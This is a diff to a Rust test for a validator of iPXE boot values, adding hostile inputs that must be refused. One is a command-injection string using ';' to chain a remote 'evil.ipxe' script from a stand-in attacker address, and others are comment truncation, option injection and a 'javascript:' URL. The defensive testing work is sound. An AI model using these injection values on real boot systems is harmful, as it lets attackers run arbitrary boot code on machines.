@@ -147,16 +147,46 @@ fn unsafe_values_are_refused() {
         (Slot::Kernel, ""),
         (Slot::Initrd, ":boot_retry"),
         (Slot::Kernel, "http://x/k\r"),
+        // Found by hostile testing: `;` runs a second command, `#` drops xname=, nid=, BOOTIF=,
+        // ds= and the retry.
+        (
+            Slot::Params,
+            "console=ttyS0 ; chain http://10.6.6.6/evil.ipxe #",
+        ),
+        (Slot::Params, "quiet #"),
+        (Slot::Params, "quiet #rest"),
+        (Slot::Params, ";"),
+        (Slot::Params, "a\u{b}b"),
+        (Slot::Params, "a\u{c}b"),
+        (Slot::Params, "quiet caf\u{e0}"),
+        // Options of iPXE's `kernel` command and other non-URLs in the URL slots.
+        (Slot::Kernel, "--name=evil"),
+        (Slot::Kernel, "--autofree"),
+        (Slot::Initrd, "-n"),
+        (Slot::Kernel, "vmlinuz"),
+        (Slot::Kernel, "http://"),
+        (Slot::Kernel, "/"),
+        (Slot::Kernel, "#http://x/k"),
+        (Slot::Kernel, "javascript:alert(1)"),
     ] {
         assert!(check_value(slot, v).is_err(), "{v:?} accepted for {slot:?}");
     }
-    assert!(
-        check_value(
+    for (slot, v) in [
+        (
             Slot::Params,
-            "console=ttyS0,115200n8 ds=nocloud-net;s=http://a/ ip=dhcp"
-        )
-        .is_ok()
-    );
+            "console=ttyS0,115200n8 ds=nocloud-net;s=http://a/ ip=dhcp",
+        ),
+        // Separators inside a word are plain text to iPXE.
+        (Slot::Params, "a||b c&&d e;f g#h"),
+        (Slot::Kernel, "http://x/k#frag;x"),
+        (Slot::Kernel, "HTTPS://x/k"),
+        (Slot::Kernel, "tftp://10.0.0.1/vmlinuz"),
+        (Slot::Kernel, "/boot/vmlinuz"),
+        (Slot::Kernel, "image:demo-1-x86_64-kernel"),
+        (Slot::Initrd, "s3://boot-images/initrd"),
+    ] {
+        assert!(check_value(slot, v).is_ok(), "{v:?} refused for {slot:?}");
+    }
     let boot = Boot {
         kernel: "http://x/k".into(),
         initrd: None,
